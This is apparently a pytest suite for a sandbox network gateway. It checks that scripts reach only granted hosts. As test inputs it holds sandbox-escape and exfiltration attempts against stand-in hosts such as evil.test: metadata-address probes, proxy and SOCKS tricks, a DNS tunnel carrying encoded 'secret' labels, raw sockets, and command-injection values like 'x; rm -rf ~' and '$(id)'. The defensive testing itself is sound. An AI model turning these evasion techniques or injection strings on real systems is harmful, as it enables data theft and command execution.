"""A script that was granted hosts reaches those and no fourth one, however it tries."""

import json
import shutil
import socket
import ssl
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from certificates import certificate

from skillkit.agent.script_answers import find_remedy
from skillkit.scripts import Grants
from skillkit.scripts.hints import find_hint
from skillkit.scripts.models import Outcome, ScriptResult
from skillkit.scripts.network import addresses, gateway
from skillkit.scripts.network.attempts import Attempt
from skillkit.scripts.network.namespaces import make_sockets
from skillkit.scripts.sandbox.bubblewrap import Bubblewrap
from skillkit.scripts.selection import SandboxSelection

__all__ = ["certificate"]

GRANTED = Grants(hosts=("api.test", "*.wild.test", "http://plain.test", "db.test:5432"))


@dataclass
class Server:
    """Answers every connection with one HTTP response and counts them."""

    listener: socket.socket
    context: ssl.SSLContext | None = None
    seen: list[bytes] = field(default_factory=list)

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def serve(self) -> None:
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        try:
            if self.context is not None:
                connection = self.context.wrap_socket(connection, server_side=True)
            with connection:
                self.seen.append(connection.recv(65536))
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        except OSError:
            pass


@dataclass
class Internet:
    """Two servers of granted hosts, and one that nobody may reach."""

    secure: Server
    plain: Server
    fourth: Server
    datagrams: socket.socket
    certificate: Path


@pytest.fixture
def internet(certificate, monkeypatch) -> Iterator[Internet]:
    public, context = certificate
    with (
        socket.create_server(("127.0.0.1", 0)) as secure,
        socket.create_server(("127.0.0.1", 0)) as plain,
        socket.create_server(("127.0.0.1", 0)) as fourth,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        found = Internet(Server(secure, context), Server(plain), Server(fourth), datagrams, public)
        for server in (found.secure, found.plain, found.fourth):
            threading.Thread(target=server.serve, daemon=True).start()

        def resolve(name: str, port: int, *, private: bool) -> list[tuple[str, int]]:
            """The name server of this internet."""
            known = {443: found.secure, 80: found.plain, 5432: found.plain}
            granted = name in ("api.test", "plain.test", "db.test") or name.endswith(".wild.test")
            return [("127.0.0.1", known[port].port if granted else found.fourth.port)]

        monkeypatch.setattr(gateway, "resolve", resolve)
        yield found
        for listener in (secure, plain, fourth):
            listener.shutdown(socket.SHUT_RDWR)


@pytest.fixture
def attack(workshop, internet) -> Callable[..., dict]:
    """Run code in a sandbox that was granted some hosts; gives its outcome and the whole answer."""
    if reason := SandboxSelection(workshop.home / "cache").reason(Bubblewrap()):
        pytest.skip(f"bwrap: {reason}")

    def run(code: str, grants: Grants = GRANTED) -> dict:
        base = workshop.skill("attack", attack_py=PRELUDE + code + "\nprint(json.dumps(outcome))\n")
        shutil.copy(internet.certificate, base / "authority.pem")
        arguments = [str(internet.fourth.port), str(internet.datagrams.getsockname()[1])]
        return workshop.tools(grants, sandbox="bwrap").script_run("attack", "attack", arguments)

    return run


PRELUDE = """
import json, os, socket, ssl, struct, sys
fourth, udp = int(sys.argv[1]), int(sys.argv[2])
authority = os.path.join(os.environ["SKILL_BASE_DIR"], "authority.pem")
REQUEST = b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"
outcome = {}
def attempt(what, action):
    try:
        outcome[what] = str(action())
    except (OSError, ValueError) as error:
        outcome[what] = None
def plain(address, port, request=REQUEST, last=False):
    with socket.create_connection((address, port), 5) as s:
        s.sendall(request)
        if last:
            s.shutdown(socket.SHUT_WR)
        if not (answer := s.recv(100)):
            raise OSError("closed")
        return answer
def secure(address, name, port=443):
    context = ssl.create_default_context(cafile=authority)
    if name is None:
        context.check_hostname = False
    with socket.create_connection((address, port), 5) as s, context.wrap_socket(s, server_hostname=name) as t:
        t.sendall(REQUEST)
        return t.recv(100)
"""


def test_granted_hosts_are_reached_by_name(attack, internet):
    answer = attack(
        """
import http.client, urllib.request
context = ssl.create_default_context(cafile=authority)
fetch = lambda url: urllib.request.urlopen(url, context=context if url.startswith("https") else None).read()
attempt("https", lambda: fetch("https://api.test/x"))
attempt("upper case and a last dot", lambda: secure("API.test.", "api.test"))
attempt("beneath a star", lambda: fetch("https://a.wild.test/"))
attempt("http", lambda: fetch("http://plain.test/"))
attempt("another port", lambda: plain("db.test", 5432))
def cut():
    # The first message in records of seven bytes.
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="api.test")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()[5:]
    with socket.create_connection(("api.test", 443), 5) as s:
        for start in range(0, len(hello), 7):
            piece = hello[start:start + 7]
            s.sendall(b"\\x16\\x03\\x01" + struct.pack("!H", len(piece)) + piece)
        return s.recv(5)[:1] == b"\\x16"
attempt("cut into records", cut)
"""
    )
    assert answer["success"], answer
    assert None not in answer["result"].values(), answer["result"]
    reached = {
        (attempt["host"], attempt["port"]) for attempt in answer["meta"]["network"] if attempt["allowed"]
    }
    assert reached == {("api.test", 443), ("a.wild.test", 443), ("plain.test", 80), ("db.test", 5432)}
    assert internet.fourth.seen == []


@pytest.mark.parametrize("program", ["curl", "node"])
def test_other_programs_need_no_settings(workshop, internet, program):
    if shutil.which(program) is None or SandboxSelection(workshop.home / "cache").reason(Bubblewrap()):
        pytest.skip(f"{program} or bwrap does not work here")
    code = {
        "curl": {"get_sh": 'curl -sS --cacert "$SKILL_BASE_DIR/authority.pem" https://api.test/'},
        "node": {
            "get_js": """
            const ca = require('fs').readFileSync(process.env.SKILL_BASE_DIR + '/authority.pem');
            require('https').get('https://api.test/', {ca}, r => r.pipe(process.stdout));
            """
        },
    }[program]
    base = workshop.skill("demo", **code)
    shutil.copy(internet.certificate, base / "authority.pem")
    answer = workshop.tools(GRANTED, sandbox="bwrap").script_run("demo", "get", json=False)
    assert answer.get("result") == "ok", answer


def test_no_fourth_host_is_reached(attack, internet):
    answer = attack(
        """
ADDRESSES = "127.0.0.1 127.0.0.2 0.0.0.0 ::1 localhost 8.8.8.8 169.254.169.254 10.0.0.1"
for address in ADDRESSES.split():
    for port in (fourth, 80, 443, 5432, 53):
        attempt(f"tcp to {address} {port}", lambda: plain(address, port))
for address in ("127.0.0.1", "8.8.8.8", "255.255.255.255", "224.0.0.1"):
    for port in (udp, fourth, 443, 53):
        def send():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(0.02)
                s.sendto(b"out", (address, port))
                return s.recv(10)
        attempt(f"udp to {address} {port}", send)
NAMES = (
    "evil.test", "wild.test", "evil-wild.test", "a.wild.test.evil.test", "api.test.evil.test", "xapi.test",
    "api.test:443", "api.test@evil.test", "api.test/evil.test", "evil.test#api.test", "*.wild.test",
    "-.wild.test", "a..wild.test", "a b.wild.test", "evil.test\\\\.wild.test", "\\u0430pi.test",
    "xn--pi-6kc.test",
)
for name in NAMES:
    for port in (443, 80, 5432):
        attempt(f"by name {name} {port}", lambda: plain(name, port))
for name in ("api.test", "plain.test", "db.test", "a.wild.test"):
    for port in (22, 80, 443, 5432, 8443, fourth):
        if (name, port) not in (("plain.test", 80), ("db.test", 5432)):
            attempt(f"another port {name} {port}", lambda: plain(name, port))
for asked in ("evil.test", "wild.test", None, "a.wild.test", "api.test.evil.test"):
    attempt(f"tls for {asked} at api.test", lambda: secure("api.test", asked))
for address in ("127.0.0.1", "127.77.0.9", "127.77.255.255"):
    attempt(f"tls at {address}", lambda: secure(address, "api.test"))
attempt("no tls at all", lambda: plain("api.test", 443))
attempt("a proxy", lambda: plain("api.test", 443, b"CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n"))
attempt("socks", lambda: plain("api.test", 443, b"\\x05\\x01\\x00", last=True))
CUT = b"\\x16\\x03\\x01\\x40\\x00" + b"\\x01\\x00\\x3f\\xfc" * 9
attempt("a cut message", lambda: plain("api.test", 443, CUT, last=True))
def query(name, kind):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        question = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)
        s.sendto(question, ("127.0.0.1", 53))
        answer = s.recv(512)
        if answer[3] & 15 or struct.unpack_from("!H", answer, 6)[0] == 0:
            raise OSError("nothing")
        return answer
for kind in (1, 5, 16, 28, 33, 255):
    attempt(f"a tunnel in names {kind}", lambda: query("c2VjcmV0.evil.test", kind))
def bind_device():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, 25, b"eth0")
        s.connect(("8.8.8.8", 53))
attempt("another device", bind_device)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
"""
    )
    assert answer["success"], answer
    assert {what: got for what, got in answer["result"].items() if got is not None} == {}
    assert internet.fourth.seen == []
    with pytest.raises(BlockingIOError):
        internet.datagrams.recv(10)
    assert internet.secure.seen == []
    refused = {attempt["host"] for attempt in answer["meta"]["network"] if not attempt["allowed"]}
    assert {"evil.test", "wild.test", "c2vjcmv0.evil.test"} <= refused


EVERYWHERE = """
def try_all():
    for family, address, port in TRIED:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect_ex((address, port))
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.sendto(b"out", (address, port))
    with socket.create_server(("127.0.0.1", 0)) as own, socket.create_connection(own.getsockname()):
        pass  # its own server, which nobody else can see
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"mine", ("127.0.0.9", 9))
    with socket.socket() as s:
        s.connect_ex((socket.gethostbyname("api.test"), 8443))
TRIED = [
    (socket.AF_INET, "8.8.8.8", 53), (socket.AF_INET, "169.254.169.254", 8080),
    (socket.AF_INET, "10.0.0.1", 22), (socket.AF_INET, "203.0.113.7", 443),
    (socket.AF_INET6, "2001:db8::7", 9999),
]
try_all()
"""


def test_every_attempt_is_recorded_also_where_nobody_listens(attack):
    answer = attack(EVERYWHERE)
    assert answer["success"], answer
    refused = {(each["host"], each["port"], each["reason"]) for each in answer["meta"]["network"]}
    tried = {("8.8.8.8", 53), ("169.254.169.254", 8080), ("10.0.0.1", 22), ("203.0.113.7", 443)}
    tried |= {("2001:db8::7", 9999)}
    connected = {(host, port, "not granted") for host, port in (*tried, ("api.test", 8443))}
    assert refused == connected | {(host, port, "no datagrams are granted") for host, port in tried}


def test_what_is_tried_last_of_all_is_recorded_too(attack):
    answer = attack("socket.socket().connect_ex(('10.9.8.7', 6543))")
    assert [(each["host"], each["port"]) for each in answer["meta"]["network"]] == [("10.9.8.7", 6543)]


def test_a_refused_host_is_named_in_the_failure(attack):
    answer = attack("import urllib.request; urllib.request.urlopen('https://evil.test/')")
    assert answer["error"] == "execution_failed"
    assert "The script tried to reach evil.test: not granted" in answer["message"]
    assert {"host": "evil.test", "port": None, "allowed": False, "reason": "not granted"} in answer["meta"][
        "network"
    ]


def test_a_granted_name_at_a_port_of_the_web_that_was_not_granted_is_named_too(workshop, internet):
    workshop.skill(
        "demo",
        try_py="import urllib.request\nurllib.request.urlopen('http://api.test/', timeout=10)\n",
    )
    answer = workshop.tools(Grants(hosts=("api.test",)), sandbox="bwrap").script_run(
        "demo", "try", json=False
    )
    assert answer["meta"]["network"] == [
        {"host": "api.test", "port": 80, "allowed": False, "reason": "not granted"}
    ]
    assert "tried to reach api.test (80): not granted" in answer["message"]
    assert not internet.plain.seen
    assert not internet.secure.seen


@pytest.mark.parametrize(
    ("host", "port", "shown"),
    [
        ("evil.example.net", None, "--host evil.example.net"),
        ("evil.example.net", 8443, "--host evil.example.net:8443"),
        ("x; rm -rf ~", None, "--host HOST"),
        ("$(id).example.net", 443, "--host HOST"),
        ("", None, "--host HOST"),
    ],
)
def test_the_command_that_grants_a_host_holds_a_name_and_nothing_else(host, port, shown):
    result = ScriptResult(Outcome.EXITED, "bwrap", 1, network=(Attempt(host, port, False, "not granted"),))
    hint = find_hint(result)
    assert find_remedy(hint.cause, "demo", hint.subject).endswith(f"agent config approve demo {shown}")


def test_connections_are_bounded_and_end_with_the_run(attack, internet):
    answer = attack(
        """
held = []
for _ in range(100):
    try:
        held.append(socket.create_connection(("db.test", 5432), 5))
    except OSError:
        pass
if os.fork() == 0:
    for s in held:
        s.sendall(b"after the end")
    os._exit(0)
outcome["held"] = len(held)
"""
    )
    assert answer["success"], answer
    assert any(attempt.get("reason") == "too many connections" for attempt in answer["meta"]["network"])
    assert not [thread for thread in threading.enumerate() if thread.name.startswith("skillkit-gateway")]


@pytest.mark.this_machine
@pytest.mark.parametrize("sandbox", ["landlock", "none"])
def test_where_names_cannot_be_held_the_grant_is_refused_and_not_widened(workshop, sandbox):
    workshop.skill("demo", tell_py="print(1)")
    grants = Grants(hosts=("api.test",), unsandboxed=True)
    if sandbox == "landlock" and SandboxSelection(workshop.home / "cache").report()["landlock"]:
        pytest.skip("landlock does not work here")
    answer = workshop.tools(grants, sandbox=sandbox).script_run("demo", "tell")
    assert answer["error"] == "permission_denied"
    assert "cannot keep a script to the hosts that were granted (api.test)" in answer["message"]


@pytest.mark.this_machine
def test_a_name_that_leads_into_our_own_network_is_refused(workshop, monkeypatch):
    if SandboxSelection(workshop.home / "cache").reason(Bubblewrap()):
        pytest.skip("bwrap does not work here")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]
        monkeypatch.setattr(addresses.socket, "getaddrinfo", lambda *args, **options: found)
        workshop.skill(
            "demo", tell_py=f"import socket; socket.create_connection(('rebound.test', {port}), 5).recv(1)"
        )
        rule = f"rebound.test:{port}"
        answer = workshop.tools(Grants(hosts=(rule,)), sandbox="bwrap").script_run("demo", "tell")
        (attempt,) = answer["meta"]["network"]
        assert attempt["reason"] == "it is at 127.0.0.1, an address inside this network"
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_help_is_given_no_network(workshop, internet):
    workshop.skill("demo", tell_py="import socket; socket.create_connection(('db.test', 5432), 5)")
    answer = workshop.tools(GRANTED).script_help("demo", "tell")
    assert not answer["success"]
    assert internet.plain.seen == []
    json.dumps(answer)


def test_sockets_are_made_once_the_sandbox_has_a_loopback_device(tmp_path):
    late = "ip address add 10.0.0.1/8 dev lo; touch ready; sleep 0.5; ip link set lo up; exec sleep 60"
    command = ["unshare", "--user", "--map-root-user", "--net", "sh", "-c", late]
    with subprocess.Popen(command, cwd=tmp_path) as sandbox:
        try:
            while not (tmp_path / "ready").exists():
                time.sleep(0.01)
            made = make_sockets(sandbox.pid, [443])
            assert made[0].getsockname() == ("127.0.0.1", 53)
            for each in made:
                each.close()
        finally:
            sandbox.kill()
